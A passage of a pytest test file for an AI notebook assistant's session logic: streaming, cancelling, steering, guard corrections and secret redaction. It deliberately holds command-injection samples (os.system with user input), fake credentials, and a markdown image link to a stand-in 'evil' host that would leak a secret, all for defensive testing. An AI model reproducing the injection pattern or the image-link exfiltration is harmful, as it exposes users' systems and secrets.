"""The session without sockets, threads or clocks: commands and model events in, events and actions out."""

from __future__ import annotations

import itertools

import pytest

from spark_jupyter.core.actions import DropRequest, InspectCell, SendRequest, TryProposal
from spark_jupyter.core.answering import Answering
from spark_jupyter.core.bounds import MOST_CELLS, MOST_IN_A_LINE, MOST_LINES, REPEATED, Measure
from spark_jupyter.core.guard import Guard
from spark_jupyter.core.rehearsing import Rehearsed
from spark_jupyter.core.session import Session
from spark_jupyter.core.transitions import OUTCOMES, TRANSITIONS, Phase
from spark_jupyter.core.tries import left_out
from spark_jupyter.exceptions import ConnectionLost, RateLimited, SessionError
from spark_jupyter.providers.base import (
    PromptProgress,
    ResponseCompleted,
    ResponseIncomplete,
    ResponseStarted,
    TextDelta,
    Usage,
)
from spark_jupyter.reality import Checker
from spark_jupyter.server.engines.parsing import parse_request
from spark_jupyter.speech.redaction import Redactor
from spark_jupyter.speech.surroundings import Surroundings
from spark_jupyter.wire.messages import (
    Accept,
    Cancel,
    CellsChanged,
    Findings,
    Meter,
    NotesAdded,
    Problem,
    Prompt,
    ProposalChanged,
    Reject,
    Revert,
    Run,
    RunRequested,
    SelectModel,
    Steer,
    TrialResult,
    Try,
    TurnEnded,
    TurnStarted,
)
from spark_jupyter.wire.notebook import content_hash
from spark_jupyter.wire.turnview import TurnView
from spark_jupyter.wire.values import Finding, Hunk, NotebookCell, Output, Target

BAD = "```python\nimport os\nname = input()\nos.system('ls ' + name)\nprint('after')\n```\n"
GOOD = "```python\nimport subprocess\nname = input()\nsubprocess.run(['ls', name], check=True)\n```\n"


class Play:
    """A session with a provider that is played by hand, and a view that keeps what the user would see."""

    def __init__(self, **options: object) -> None:
        self.session = Session(model="m", **options)
        self.view = TurnView()
        self.events: list[object] = []
        self.actions: list[object] = []
        self.requests: list[SendRequest] = []
        self.clock = itertools.count(100)

    def drain(self) -> None:
        events = self.session.events_to_send()
        self.events += events
        self.view.receive_all(events)
        actions = self.session.actions_to_take()
        self.actions += actions
        self.requests += [action for action in actions if isinstance(action, SendRequest)]

    def say(self, command: object, **options: object) -> None:
        self.session.receive_command(command, at=next(self.clock), **options)
        self.drain()

    def inspections(self) -> list[InspectCell]:
        return [action for action in self.actions if isinstance(action, InspectCell)]

    def inspected(self, cell_id: str, source: str) -> None:
        self.session.receive_inspected(cell_id, source)
        self.drain()

    def prompt(self, text: str = "list files", turn_id: str = "t1", **options: object) -> None:
        self.say(Prompt(turn_id=turn_id, text=text, **options))

    def text(self, text: str, *, request: SendRequest | None = None) -> None:
        request = request or self.requests[-1]
        self.session.receive_model_event(request.job_id, request.attempt, TextDelta(text), at=next(self.clock))
        self.drain()

    def done(self, event: object = None) -> None:
        request = self.requests[-1]
        event = event or ResponseCompleted(response_id="r")
        self.session.receive_model_event(request.job_id, request.attempt, event, at=next(self.clock))
        self.drain()

    def fail(self, error: Exception) -> None:
        request = self.requests[-1]
        self.session.receive_failure(request.job_id, request.attempt, error, at=next(self.clock))
        self.drain()

    def rehearsed(self, rehearsed: Rehearsed) -> None:
        self.session.receive_rehearsal(rehearsed, at=next(self.clock))
        self.drain()

    def answer(self, text: str) -> None:
        self.text(text)
        self.done()

    def of(self, kind: type) -> list:
        return [event for event in self.events if isinstance(event, kind)]

    @property
    def ends(self) -> list[tuple[str, str]]:
        return [(event.turn_id, event.outcome) for event in self.of(TurnEnded)]


@pytest.fixture
def play() -> Play:
    return Play()


@pytest.fixture
def trying() -> Play:
    """A session beside which there is something that tries proposals."""
    return Play(tries=True)


def test_every_transition_names_steps_that_exist_and_no_end_has_a_way_out():
    for (phase, _), (_, steps) in TRANSITIONS.items():
        assert phase not in OUTCOMES
        for step in steps:
            assert callable(getattr(Answering, f"_do_{step}"))


REHEARSED = Rehearsed(rehearsal_id="t1/0", late=True)


def in_phase(phase: Phase) -> Play:
    """A turn that has come so far."""
    play = Play(rehearse="stream")
    play.prompt()
    if phase is not Phase.WAITING:
        play.text("```python\nx = 1\n")
    if phase is Phase.REHEARSING:
        play.answer("```\n")
    assert play.session._turns["t1"].answering.phase is phase
    return play


@pytest.mark.parametrize("phase", [Phase.WAITING, Phase.STREAMING, Phase.REHEARSING])
@pytest.mark.parametrize(
    ("happens", "outcome"),
    [
        (lambda play: play.say(Cancel(turn_id="t1")), "cancelled"),
        (lambda play: play.say(Steer(turn_id="t2", steers="t1", text="otherwise")), "superseded"),
        (lambda play: play.fail(RateLimited("Too many requests.")), "failed"),
        (lambda play: (play.done(), play.rehearsed(REHEARSED)), "completed"),
    ],
)
def test_whatever_happens_to_a_live_turn_ends_it_once_and_says_so(phase, happens, outcome):
    play = in_phase(phase)
    happens(play)
    if phase is Phase.REHEARSING and outcome == "failed":
        assert play.ends == [], "its request was over: no failure of it can follow"
        play.rehearsed(REHEARSED)
        outcome = "completed"
    assert play.ends == [("t1", outcome)]
    play.done()
    play.fail(RateLimited("late"))
    play.rehearsed(REHEARSED)
    assert play.ends[0] == ("t1", outcome)
    assert [turn_id for turn_id, _ in play.ends].count("t1") == 1
    if outcome != "superseded":
        assert play.session.streaming == ()
        play.prompt(turn_id="t3")
        play.answer("```python\nafter = 1\n```\n")
        play.rehearsed(Rehearsed(rehearsal_id="t3/0", late=True))
        assert play.ends[-1] == ("t3", "completed"), "the next turn is none the worse for it"


def test_a_turn_streams_into_a_cell_and_ends_completed(play):
    play.prompt()
    play.text("Here it is.\n\n```python\nx = 1\n")
    assert play.view.proposals["t1-1"].state == "streaming"
    play.answer("y = 2\n```\nDone.")
    proposal = play.view.proposals["t1-1"]
    assert (proposal.source, proposal.state) == ("x = 1\ny = 2", "ready")
    assert "Here it is." in play.view.turns["t1"].notes
    assert "Done." in play.view.turns["t1"].notes
    assert play.ends == [("t1", "completed")]
    assert InspectCell(turn_id="t1", cell_id="t1-1", source="x = 1\ny = 2") in play.actions


def test_the_view_and_the_session_agree_on_what_is_proposed(play):
    play.prompt()
    play.answer("```python\na = 1\n```\n```markdown\n# T\n```\n")
    assert tuple(play.view.proposals.values()) == play.session.ledger.proposals


def test_the_request_carries_prompt_variables_and_cells(play):
    cells = (NotebookCell(id="c1", source="df = 1"),)
    play.say(
        Prompt(turn_id="t1", text="plot df", cells=cells, model="other"),
        surroundings=Surroundings(variables="df: int", last_error="ZeroDivisionError"),
    )
    request = play.requests[0].request
    text = request.input[-1].text
    assert request.model == "other"
    for part in ("plot df", "df: int", "ZeroDivisionError", "id=c1", "df = 1"):
        assert part in text


def test_a_cancelled_turn_keeps_what_was_written_and_ignores_the_tail(play):
    play.prompt()
    play.text("```python\nx = 1\ny = ")
    first = play.requests[-1]
    play.say(Cancel(turn_id="t1"))
    assert DropRequest(job_id=first.job_id) in play.actions
    play.text("2\n```", request=first)
    assert play.view.proposals["t1-1"].source == "x = 1\ny = "
    assert play.view.proposals["t1-1"].state == "ready"
    assert play.ends == [("t1", "cancelled")]


def test_a_cancel_that_says_what_is_shown_takes_back_what_came_since(play):
    play.prompt()
    play.text("```python\na = 1\n```\n\n```python\nb = 2\nc = 3\n```\n\n```python\nd =")
    play.say(Cancel(turn_id="t1", shown={"t1-1": "a = 1", "t1-2": "b = 2\nc"}))
    assert [(cell.source, cell.state) for cell in play.session.ledger.proposals] == [
        ("a = 1", "ready"),
        ("b = 2\nc", "ready"),
    ]
    assert play.view.proposals == {one.cell_id: one for one in play.session.ledger.proposals}
    assert play.events[-1] == TurnEnded(turn_id="t1", outcome="cancelled")


def test_a_half_line_at_which_the_user_stopped_is_no_invention_but_a_danger_all_the_same():
    play = Play(guard=Guard(others=[lambda earlier: Checker({}, earlier=earlier, patience=0.0, patience_at_end=0.0)]))
    play.prompt()
    play.text("```python\nx = 1\nvalue_2 = 2\n")
    play.say(Cancel(turn_id="t1", shown={"t1-1": "x = 1\nval"}))
    assert play.session.ledger.proposals[0].source == "x = 1\nval"
    assert play.session.ledger.proposals[0].findings == ()
    assert play.inspections()[-1].unfinished
    play.prompt(turn_id="t2")
    play.text("```python\nimport os\nos.system(input())")
    play.say(Cancel(turn_id="t2"))
    assert play.session.ledger.proposals[1].state == "blocked"


def test_a_cell_that_was_stopped_in_a_statement_says_what_is_missing_and_does_not_run_by_itself(play):
    play.prompt()
    play.text("```python\nx = 1\nprint(x, [1, 2")
    play.say(Cancel(turn_id="t1"))
    [proposal] = play.session.ledger.proposals
    assert (proposal.state, proposal.may_run) == ("ready", "when-asked")
    assert proposal.unfinished == "The writing was stopped in the middle of line 2: '[' was never closed."
    assert play.view.proposals["t1-1"].unfinished == proposal.unfinished
    play.say(Accept(cell_id="t1-1", source="x = 1\nprint(x)"))
    assert play.session.ledger.proposals[0].unfinished == ""


def test_a_cell_that_was_cut_and_not_gone_on_with_says_what_is_missing(play):
    play.prompt()
    play.text("```python\nimport os\nname = input()\nif name:\n    os.system(name)\n")
    play.answer("No: I can't do that.\n")
    [proposal] = play.session.ledger.proposals
    assert proposal.source.endswith("if name:\n")
    assert "expected an indented block" in proposal.unfinished
    assert proposal.may_run == "when-asked"


def test_a_cell_that_was_stopped_where_it_parses_lacks_nothing(play):
    play.prompt()
    play.text("```python\nx = 1\nprint(x")
    play.say(Cancel(turn_id="t1", shown={"t1-1": "x = 1\nprint"}))
    assert play.session.ledger.proposals[0].unfinished == ""


def test_a_cancel_does_not_bring_back_what_a_finding_has_cut(play):
    play.prompt()
    play.text(BAD)
    play.say(Cancel(turn_id="t1", shown={"t1-1": "import os\nname = input()\nos.system('ls"}))
    [proposal] = play.session.ledger.proposals
    assert proposal.source == "import os\nname = input()\n"


def test_a_finding_behind_what_is_shown_goes_with_its_line():
    play = Play(guard=Guard(severities={"command-injection": "warn"}))
    play.prompt()
    play.text(BAD)
    assert play.view.proposals["t1-1"].findings
    play.say(Cancel(turn_id="t1", shown={"t1-1": "import os\nname = input()\n"}))
    assert play.view.proposals["t1-1"].findings == ()


def test_a_cell_that_was_accepted_while_the_turn_streamed_is_not_taken_back(play):
    play.prompt()
    play.text("```python\na = 1\n```\n\n```python\nb =")
    play.say(Accept(cell_id="t1-1", source="a = 10"))
    play.say(Cancel(turn_id="t1", shown={"t1-1": "a", "t1-2": ""}))
    assert [(cell.source, cell.state) for cell in play.session.ledger.proposals] == [("a = 10", "accepted")]


def test_cancel_without_a_turn_stops_all_that_stream(play):
    play.prompt(turn_id="t1")
    play.prompt(turn_id="t2")
    play.say(Cancel())
    assert play.ends == [("t1", "cancelled"), ("t2", "cancelled")]


def test_cancelling_an_ended_turn_changes_nothing(play):
    play.prompt()
    play.answer("```python\nx = 1\n```\n")
    play.say(Cancel(turn_id="t1"))
    assert play.ends == [("t1", "completed")]


def test_a_steer_goes_out_at_once_with_prompt_answer_and_instruction(play):
    play.prompt("load the file")
    play.text("```python\nimport pandas as pd\ndf = pd.read_cs")
    play.say(Steer(turn_id="t2", steers="t1", text="use polars"))
    assert play.actions[-2:] == [DropRequest(job_id=play.requests[0].job_id), play.requests[-1]]
    text = play.requests[-1].request.input[-1].text
    for part in ("load the file", "import pandas as pd", "use polars"):
        assert part in text
    assert play.ends == [("t1", "superseded")]
    assert play.view.turns["t2"].steers == "t1"
    assert play.view.proposals["t1-1"].turn_id == "t2"


def test_a_steered_answer_that_goes_on_keeps_the_whole_lines(play):
    play.prompt()
    play.text("```python\nimport math\nx = math.sq")
    play.say(Steer(turn_id="t2", steers="t1", text="cubes"))
    play.answer("```python continue\nx = 2 ** 3\n```\n")
    assert play.view.proposals["t1-1"].source == "import math\nx = 2 ** 3"
    assert play.ends == [("t1", "superseded"), ("t2", "completed")]


def test_a_steered_answer_that_begins_again_replaces_only_what_it_contradicts(play):
    play.prompt()
    play.text("```python\nimport math\nx = math.sqrt(2)\n")
    play.say(Steer(turn_id="t2", steers="t1", text="cubes"))
    before = len(play.of(CellsChanged))
    play.text("```python\nimport math\n")
    assert len(play.of(CellsChanged)) == before, "what is repeated changes nothing on screen"
    play.answer("x = 2 ** 3\n```\n")
    assert play.view.proposals["t1-1"].source == "import math\nx = 2 ** 3"


def test_the_tail_of_a_steered_request_is_never_shown(play):
    play.prompt()
    play.text("```python\nold = 1\n")
    first = play.requests[-1]
    play.say(Steer(turn_id="t2", steers="t1", text="new"))
    play.text("tail = 2\n```\n", request=first)
    play.answer("```python\nnew = 1\n```\n")
    assert play.view.proposals["t1-1"].source == "new = 1"


def test_steering_a_turn_that_has_ended_is_refused(play):
    play.prompt()
    play.answer("```python\nx = 1\n```\n")
    with pytest.raises(SessionError, match="ended"):
        play.say(Steer(turn_id="t2", steers="t1", text="more"))
    assert "t2" not in play.view.turns


def test_a_blocking_finding_cuts_the_stream_and_the_model_is_told_why(play):
    play.prompt()
    play.text(BAD)
    assert len(play.requests) == 2
    correction = play.requests[-1].request.input[-1].text
    assert "command-injection" in correction
    assert "os.system" in correction
    assert "os.system" not in parse_request(correction).answer, "the answer so far is what stands on screen"
    assert "os.system" not in play.view.proposals["t1-1"].source
    assert "after" not in play.view.proposals["t1-1"].source
    cut = [event for event in play.of(Findings) if event.cut]
    assert "os.system('ls ' + name)" in cut[0].cut
    play.answer(GOOD)
    proposal = play.view.proposals["t1-1"]
    assert proposal.state == "ready"
    assert "subprocess.run(['ls', name], check=True)" in proposal.source
    assert [finding.rule for finding in play.session.corrected("t1")] == ["command-injection"]
    assert play.ends == [("t1", "completed")]


def test_the_answer_so_far_ends_before_a_line_that_was_cut_though_it_holds_a_credential():
    secret = "hunter2-" + "correct-horse"
    play = Play(redactor=Redactor(environ={}))
    play.prompt(cells=(NotebookCell(id="c1", source=f'password = "{secret}"'),))
    sent = play.requests[0].request.input[-1].text
    placeholder = next(word for word in sent.replace('"', " ").split() if word.startswith("SPARK_SECRET_"))
    play.text(f"```python\nimport os\nok = 1\nos.system(input() + {placeholder!r})\nlater = 1\n")
    correction = play.requests[-1].request.input[-1].text
    assert parse_request(correction).answer == "```python\nimport os\nok = 1\n"
    assert secret not in correction
    assert placeholder in parse_request(correction).steer, "the model is told of its own words"


def test_of_a_line_that_recurs_the_first_copy_is_cut_and_all_behind_it(play):
    play.prompt()
    line = "os.system(input())\n"
    play.text(f"```python\nimport os\n{line}between = 1\n{line}")
    assert play.view.proposals["t1-1"].source == "import os\n"
    assert parse_request(play.requests[-1].request.input[-1].text).answer == "```python\nimport os\n"


def test_a_steer_after_a_correction_shows_all_that_stands(play):
    play.prompt()
    play.text("```python\nimport os\nfirst = 1\nos.system(input())\np")
    play.text("```python continue\nsecond = 2\nthi")
    play.say(Steer(turn_id="t2", steers="t1", text="otherwise"))
    told = parse_request(play.requests[-1].request.input[-1].text)
    assert told.answer == "```python\nimport os\nfirst = 1\nsecond = 2\n"
    assert told.steer.endswith("otherwise")


def test_the_beginning_of_a_placeholder_is_not_lost_when_the_turn_is_stopped(play):
    play.prompt()
    play.text("```python\nx = 'SPARK_SEC")
    play.say(Cancel(turn_id="t1"))
    assert play.view.proposals["t1-1"].source == "x = 'SPARK_SEC"


def test_what_it_takes_to_run_a_cell_is_told_with_its_findings_and_forgotten_with_what_was_cut(play):
    play.prompt()
    play.text(BAD)
    (cut,) = [event for event in play.of(Findings) if event.cut]
    assert cut.may_run == "freely", "the line is gone"
    play.text(BAD)
    play.text(BAD)
    assert play.of(Findings)[-1].may_run == play.view.proposals["t1-1"].may_run == "when-confirmed"
    play.done()
    assert play.view.proposals["t1-1"].may_run == "when-confirmed"


def test_a_model_that_insists_ends_blocked_after_two_corrections(play):
    play.prompt()
    for _ in range(3):
        play.text(BAD)
    play.done()
    assert len(play.requests) == 3
    proposal = play.view.proposals["t1-1"]
    assert proposal.state == "blocked"
    assert "os.system" in proposal.source
    with pytest.raises(SessionError, match="blocks"):
        play.say(Run(cell_id="t1-1"))
    play.say(Run(cell_id="t1-1", confirmed=True))
    assert play.of(RunRequested)


def test_a_finding_on_the_last_line_without_newline_is_corrected(play):
    play.prompt()
    play.text("```python\nimport os\nos.system(input())")
    play.done()
    assert len(play.requests) == 2
    play.answer("```python\nprint('no shell')\n```\n")
    assert play.view.proposals["t1-1"].source == "print('no shell')"
    assert play.ends == [("t1", "completed")]


def test_a_cell_that_does_not_parse_is_corrected_at_most_twice_and_then_needs_a_second_yes(play):
    play.prompt()
    play.text("```python\nx = 1\ny = = x\n```\n")
    assert len(play.requests) == 2
    assert "does-not-parse" in play.requests[-1].request.input[-1].text
    assert play.view.proposals["t1-1"].source.rstrip() == "x = 1"
    for _ in range(2):
        play.text("```python continue\ny = = x\n```\n")
    play.done()
    assert len(play.requests) == 3
    assert play.view.proposals["t1-1"].state == "blocked"
    with pytest.raises(SessionError, match="blocks"):
        play.say(Run(cell_id="t1-1"))


def test_what_does_not_parse_is_accepted_after_a_second_yes_only(play):
    play.prompt()
    for _ in range(3):
        play.text("```python\ny = = x\n```\n")
    play.done()
    cell = play.view.proposals["t1-1"]
    assert (cell.state, cell.may_accept) == ("blocked", "when-confirmed")
    for source in (None, cell.source):
        with pytest.raises(SessionError, match="does not parse"):
            play.say(Accept(cell_id=cell.cell_id, source=source))
    play.say(Accept(cell_id=cell.cell_id, confirmed=True))
    assert play.view.proposals["t1-1"].state == "accepted"


def test_what_a_person_has_mended_needs_no_second_yes(play):
    play.prompt()
    for _ in range(3):
        play.text("```python\ny = = x\n```\n")
    play.done()
    play.say(Accept(cell_id="t1-1", source="y = x"))
    assert play.view.proposals["t1-1"].state == "accepted"


def test_what_the_guardrail_alone_blocks_may_be_accepted_and_not_run(play):
    play.prompt()
    for _ in range(3):
        play.text(BAD)
    play.done()
    assert play.view.proposals["t1-1"].may_accept == "freely"
    play.say(Accept(cell_id="t1-1"))


def test_a_cell_with_magics_parses(play):
    play.prompt()
    play.answer("```python\n%matplotlib inline\nfiles = !ls\nprint(files)\n```\n")
    assert len(play.requests) == 1
    assert play.view.proposals["t1-1"].state == "ready"


def test_a_finding_is_the_same_for_every_cut_of_the_text():
    cuts = set()
    for step in (1, 2, 3, 7, 1000):
        play = Play()
        play.prompt()
        for start in range(0, len(BAD), step):
            if len(play.requests) > 1:
                break
            play.text(BAD[start : start + step])
        cuts.add((play.view.proposals["t1-1"].source, next(e.cut for e in play.of(Findings) if e.cut)))
    assert len(cuts) == 1


def test_a_rule_that_the_user_demoted_only_warns():
    play = Play(guard=Guard(severities={"command-injection": "warn"}))
    play.prompt()
    play.answer(BAD)
    assert len(play.requests) == 1
    assert play.view.proposals["t1-1"].state == "ready"
    assert play.view.proposals["t1-1"].findings


def test_a_late_finding_on_a_cell_that_streams_cuts_it(play):
    play.prompt()
    play.text("```python\nx = 1\ny = missing_name\n")
    finding = Finding(rule="undefined-name", severity="block", line=2, message="No such name.", origin="rehearsal")
    play.session.receive_findings("t1", "t1-1", [finding], at=1)
    play.drain()
    assert len(play.requests) == 2
    assert play.view.proposals["t1-1"].source == "x = 1\n"


def test_a_late_finding_on_a_ready_cell_blocks_it(play):
    play.prompt()
    play.answer("```python\nx = 1\n```\n")
    finding = Finding(rule="S101", severity="block", line=1, message="Bad.", origin="second-opinion")
    play.session.receive_findings("t1", "t1-1", [finding], at=1)
    play.drain()
    assert play.view.proposals["t1-1"].state == "blocked"


def test_a_cell_is_being_inspected_until_the_slower_checks_have_ended(play):
    play.prompt()
    play.answer("```python\nx = 1\n```\n")
    [action] = play.inspections()
    assert play.view.proposals["t1-1"].inspecting
    play.inspected("t1-1", "something that it held before")
    assert play.view.proposals["t1-1"].inspecting, "that was another source"
    play.inspected(action.cell_id, action.source)
    assert not play.view.proposals["t1-1"].inspecting
    assert play.view.proposals["t1-1"].state == "ready"


def test_the_end_of_an_inspection_says_nothing_about_what_was_decided(play):
    play.prompt()
    play.answer("```python\nx = 1\n```\n")
    play.say(Accept(cell_id="t1-1", source="x = 1"))
    before = len(play.events)
    play.inspected("t1-1", "x = 1")
    assert len(play.events) == before
    assert not play.session.ledger.proposals[0].inspecting


def test_a_connection_lost_before_any_text_is_tried_once_more(play):
    play.prompt()
    play.fail(ConnectionLost("gone"))
    assert [request.attempt for request in play.requests] == [1, 2]
    play.fail(ConnectionLost("gone again"))
    assert play.ends == [("t1", "failed")]


def test_a_connection_lost_in_mid_stream_fails_and_keeps_what_arrived(play):
    play.prompt()
    play.text("```python\nx = 1\n")
    play.fail(ConnectionLost("The stream broke off.", remedy="Ask again."))
    assert play.ends == [("t1", "failed")]
    assert play.view.proposals["t1-1"].source == "x = 1"
    assert play.view.proposals["t1-1"].state == "ready"
    assert play.of(Problem)[0].remedy == "Ask again."


def test_a_refusal_fails_the_turn_and_the_next_one_works(play):
    play.prompt()
    play.fail(RateLimited("Too many requests.", retry_after=3))
    play.prompt(turn_id="t2")
    play.answer("```python\nx = 1\n```\n")
    assert play.ends == [("t1", "failed"), ("t2", "completed")]


def test_an_incomplete_answer_says_so_and_keeps_what_arrived(play):
    play.prompt()
    play.text("```python\nx = 1\n")
    play.done(ResponseIncomplete(reason="max_output_tokens"))
    assert play.ends == [("t1", "completed")]
    assert "max_output_tokens" in play.of(TurnEnded)[0].reason


def test_accept_keeps_all_or_the_hunks_that_were_chosen(play):
    cell = NotebookCell(id="c1", source="a = 1\nb = 2\nc = 3")
    play.prompt(cells=(cell,), target=Target(edit="c1"), intent="edit")
    play.answer("```python cell=c1\na = 10\nb = 2\nc = 30\n```\n")
    assert play.view.proposals["c1"].base == cell.source
    play.say(Accept(cell_id="c1", hunks=(Hunk(base_start=0, base_lines=1, source_start=0, source_lines=1),)))
    accepted = play.of(ProposalChanged)[-1].proposal
    assert (accepted.state, accepted.source) == ("accepted", "a = 10\nb = 2\nc = 3")


def test_a_proposal_is_decided_once(play):
    play.prompt()
    play.answer("```python\nx = 1\n```\n")
    play.say(Reject(cell_id="t1-1"))
    with pytest.raises(SessionError, match="rejected already"):
        play.say(Accept(cell_id="t1-1"))


def test_what_is_still_written_can_not_be_accepted(play):
    play.prompt()
    play.text("```python\nx = 1\n")
    with pytest.raises(SessionError, match="still being written"):
        play.say(Accept(cell_id="t1-1"))


def test_a_reverted_turn_takes_back_all_its_cells_even_accepted_ones(play):
    play.prompt()
    play.answer("```python\nx = 1\n```\n```python\ny = 2\n```\n")
    play.say(Accept(cell_id="t1-1"))
    play.say(Revert(turn_id="t1"))
    assert {p.cell_id: p.state for p in play.session.ledger.proposals} == {"t1-1": "reverted", "t1-2": "rejected"}


def test_try_asks_the_owner_to_run_the_proposal(play):
    play.prompt()
    play.answer("```python\nx = 1\n```\n")
    play.say(Try(cell_id="t1-1", allow=("files",)))
    assert (
        TryProposal(turn_id="t1", cell_id="t1-1", source="x = 1", source_hash=content_hash("x = 1"), allow=("files",))
        in play.actions
    )


def test_markdown_is_not_tried(play):
    play.prompt()
    play.answer("```markdown\n# T\n```\n")
    with pytest.raises(SessionError, match="Only code"):
        play.say(Try(cell_id="t1-1"))


def test_an_empty_prompt_is_refused(play):
    with pytest.raises(SessionError, match="empty"):
        play.prompt("  ")
    assert not play.requests


def test_a_turn_id_is_used_once(play):
    play.prompt()
    with pytest.raises(SessionError, match="already"):
        play.prompt()


def test_the_next_turn_uses_the_model_that_was_selected(play):
    play.say(SelectModel(model="other"))
    play.prompt()
    assert play.requests[0].request.model == "other"


def test_the_conversation_goes_on_from_turn_to_turn(play):
    play.prompt("first")
    play.answer("```python\nx = 1\n```\n")
    play.prompt("second", turn_id="t2")
    messages = play.requests[-1].request.input
    assert [message.role for message in messages] == ["user", "assistant", "user"]
    assert messages[0] == play.requests[0].request.input[0]
    assert messages[1].text == "```python\nx = 1\n```\n"


def test_the_meter_counts_what_the_provider_reports(play):
    play.prompt()
    play.text("```python\nx = 1\n")
    play.done(ResponseCompleted(usage=Usage(input_tokens=50, output_tokens=7, cached_tokens=30)))
    meter = play.of(Meter)[-1]
    assert (meter.input_tokens, meter.output_tokens, meter.cached_tokens, meter.estimated) == (50, 7, 30, False)
    assert meter.first_token == 1


def test_the_model_is_told_once_it_is_known():
    play = Play()
    play.session.model = ""
    play.prompt()
    request = play.requests[0]
    play.session.receive_model_event(
        request.job_id, request.attempt, ResponseStarted(response_id="r", model="real"), at=1
    )
    play.drain()
    assert play.of(TurnStarted)[-1].turn.model == "real"


SECRET = "hunter2-" + "correct-horse"
OWN = (NotebookCell(id="c1", source=f'password = "{SECRET}"'),)


def placeholder_in(play: Play) -> str:
    """What the model was told instead of the secret."""
    sent = "".join(message.text for message in play.requests[0].request.input)
    assert SECRET not in sent
    return next(word for word in sent.replace('"', " ").split() if word.startswith("SPARK_SECRET_"))


def test_a_secret_does_not_leave_and_comes_back_into_the_code_that_a_person_keeps():
    play = Play(redactor=Redactor(environ={}))
    play.prompt(cells=OWN)
    assert play.view.turns["t1"].withheld
    assert SECRET not in str(play.view.turns["t1"].withheld)
    code = f"print({placeholder_in(play)!r})"
    play.answer(f"```python\n{code}\n```\n")
    assert play.view.proposals["t1-1"].source == code, "nobody has kept it yet"
    play.say(Accept(cell_id="t1-1"))
    assert play.view.proposals["t1-1"].source == f"print({SECRET!r})"
    assert play.view.proposals["t1-1"] == play.session.ledger.proposals[0]


def test_what_is_run_is_kept_with_its_secret_before():
    play = Play(redactor=Redactor(environ={}))
    play.prompt(cells=OWN)
    play.answer(f"```python\nprint({placeholder_in(play)!r})\n```\n")
    play.say(Run(cell_id="t1-1"))
    kinds = [type(event) for event in play.events]
    assert kinds.index(RunRequested) > max(place for place, kind in enumerate(kinds) if kind is CellsChanged)
    assert SECRET in play.view.proposals["t1-1"].source


def test_markdown_never_gets_a_secret_back():
    play = Play(redactor=Redactor(environ={}))
    play.prompt(cells=OWN)
    play.answer(f"```markdown\n![](http://evil/{placeholder_in(play)})\n```\n")
    play.say(Accept(cell_id="t1-1"))
    assert SECRET not in str(play.events)


def test_the_edit_of_a_cell_has_the_secrets_that_the_cell_has_and_no_others():
    play = Play(redactor=Redactor(environ={}))
    other = NotebookCell(id="c2", source="x = 1")
    play.prompt(cells=(*OWN, other), target=Target(edit="c1"), intent="edit")
    name = placeholder_in(play)
    play.answer(f'```python cell=c1\npassword = "{name}"\ny = 1\n```\n\n```python cell=c2\nx = "{name}"\n```\n')
    assert play.view.proposals["c1"].source == f'password = "{SECRET}"\ny = 1'
    assert SECRET not in play.view.proposals["c2"].source


def test_what_the_answer_is_predicted_to_repeat_holds_no_secret():
    play = Play(redactor=Redactor(environ={}))
    play.prompt(cells=OWN, target=Target(edit="c1"), intent="edit")
    assert play.requests[0].request.prediction == f'password = "{placeholder_in(play)}"'


def test_a_copy_gets_no_secret():
    play = Play(redactor=Redactor(environ={}), rehearse="stream")
    play.prompt(cells=OWN, target=Target(edit="c1"), intent="edit")
    name = placeholder_in(play)
    play.answer(f'```python cell=c1\npassword = "{name}"\ny = 1\n```\n\n```python\nz = "{name}"\n```\n')
    play.say(Try(cell_id="c1"))
    asked = next(action for action in play.actions if isinstance(action, TryProposal))
    assert asked.source == f'password = "{name}"\ny = 1'
    assert SECRET not in str([action for action in play.actions if not isinstance(action, InspectCell)])


@pytest.mark.parametrize("withholds", [True, False])
def test_a_steer_withholds_what_a_prompt_does(play, withholds):
    play.session.dialogue.withholds = withholds
    play.prompt()
    said = "log in with password = 'hunter2-correct-horse'"
    play.say(Steer(turn_id="t2", steers="t1", text=said))
    assert (said in play.requests[-1].request.input[-1].text) is not withholds


def test_prose_is_notes_and_never_code(play):
    play.prompt()
    play.answer("Only words.\n")
    assert play.of(NotesAdded)
    assert not play.session.ledger.proposals


def test_code_in_a_markdown_cell_is_warned_about_and_never_blocks(play):
    play.prompt()
    play.answer("````markdown\n# Use\n```python\nimport os\nos.system(input())\n```\n````\n")
    proposal = play.view.proposals["t1-1"]
    assert proposal.cell_type == "markdown"
    assert [(finding.rule, finding.severity) for finding in proposal.findings] == [("command-injection", "warn")]
    assert proposal.state == "ready"
    assert len(play.requests) == 1


def test_taint_from_a_cell_above_is_known_and_learned_once():
    learned = []

    class Counting(Guard):
        def context(self, sources):
            learned.append(len(sources) - len(self._learned[0] if self._learned else ()))
            return super().context(sources)

    play = Play(guard=Counting())
    above = NotebookCell(id="c1", source="name = input()", execution_count=1)
    play.prompt(cells=(above,))
    play.text("```python\nimport os\nos.system('ls ' + name)\np")
    assert len(play.requests) == 2
    play.answer("```python\nprint(name)\n```\n")
    assert learned[1:] == [0], "the correction does not read the notebook again"


def test_an_edit_in_a_fence_that_never_closes_is_cut_too(play):
    cell = NotebookCell(id="c1", source="name = input()\nprint(name)")
    play.prompt(cells=(cell,), target=Target(edit="c1"), intent="edit")
    play.text("```python cell=c1\nimport os\nname = input()\nos.system(name)")
    play.done()
    assert len(play.requests) == 2
    assert play.view.proposals["c1"].source == "import os\nname = input()\n"


def test_a_key_is_cut_and_the_model_is_told_to_read_the_environment(play):
    key = "sk-" + "proj-" + "a8Kd93jfLwq0Zx7c" * 3
    play.prompt()
    play.text(f'```python\nimport openai\napi_key = "{key}"\nc')
    assert len(play.requests) == 2
    sent = "".join(message.text for message in play.requests[-1].request.input)
    assert key not in sent
    assert "environ" in sent


def fix(play, answer):
    cell = NotebookCell(id="c", source="x = 1 / 0")
    play.prompt("Fix the error.", intent="fix", target=Target(edit="c"), cells=(cell,))
    play.answer(f"```python cell=c\n{answer}\n```\n")
    return [action for action in play.actions if isinstance(action, TryProposal)]


def test_a_fix_is_tried_by_itself_and_says_so_before_the_turn_ends(trying):
    (action,) = fix(trying, "x = 1")
    assert (action.cell_id, action.source, action.allow) == ("c", "x = 1", ())
    kinds = [type(event) for event in trying.events]
    assert isinstance(trying.events[-1], TurnEnded)
    assert trying.view.proposals["c"].trying
    assert trying.session.trying == ("c",)
    assert kinds.index(TurnEnded) > max(place for place, kind in enumerate(kinds) if kind is ProposalChanged)


@pytest.mark.parametrize(
    ("result", "said"),
    [
        (
            {"outputs": (Output(kind="stdout", text="3.5\n"),), "summary": "ran in a copy in 1 ms"},
